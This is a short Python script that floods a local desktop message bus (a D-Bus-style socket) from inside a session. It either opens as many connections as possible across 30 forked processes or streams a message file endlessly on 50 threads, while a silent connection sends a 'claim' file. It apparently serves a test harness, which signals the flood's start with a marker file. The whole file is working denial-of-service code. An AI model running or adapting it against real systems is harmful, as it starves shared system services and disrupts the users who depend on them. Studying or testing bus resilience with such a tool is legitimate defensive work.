"""Floods a message bus from inside a desktop: python3 bus_flood.py SOCKET HOW. Standard library alone.

With `connections` it opens as many as it may, in several processes. Else it sends the message in the file `message`
without end, on several connections; one more connection sends the file `claim`, and reads nothing. The file `flooding`
is there once the flood has begun.
"""

import os
import resource
import signal
import socket
import sys
import threading
import time
from pathlib import Path

CONNECTIONS = 50
PROCESSES = 30


def connect(path):
    channel = socket.socket(socket.AF_UNIX)
    channel.connect(path)
    channel.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    if not channel.recv(4096).startswith(b"OK"):
        raise OSError("not allowed")
    channel.sendall(b"BEGIN\r\n" + Path("hello").read_bytes())
    return channel


def hold(path):
    """One process full of connections."""
    kept = []
    try:
        while True:
            kept.append(connect(path))
    except OSError:
        signal.pause()


def send(path, data):
    while True:
        try:
            channel = connect(path)
            while True:
                channel.sendall(data)
        except OSError:
            time.sleep(0.05)


def main(path, how):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if how == "connections":
        for _ in range(PROCESSES):
            if os.fork() == 0:
                hold(path)
    else:
        data = Path("message").read_bytes()
        silent = connect(path)
        silent.sendall(Path("claim").read_bytes())
        for _ in range(CONNECTIONS):
            threading.Thread(target=send, args=(path, data * 50), daemon=True).start()
    time.sleep(2)
    Path("flooding").touch()
    signal.pause()


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
